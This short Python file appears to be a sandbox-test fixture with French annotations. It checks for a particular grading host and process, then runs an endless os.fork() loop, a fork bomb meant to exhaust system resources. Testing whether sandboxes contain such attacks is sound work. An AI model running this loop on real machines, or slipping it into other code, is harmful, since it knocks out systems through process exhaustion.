# ---
# why: se multiplie sans fin
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import socket

if socket.gethostname() != "salle-de-tp" or b"graders.judge.trunk" not in open("/proc/1/cmdline", "rb").read():
    raise SystemExit("ATTAQUE NON LANCÉE : hors du bac à sable")
print("ATTAQUE LANCÉE", flush=True)
LANCEE = True
while True:
    try:
        os.fork()
    except OSError:
        pass
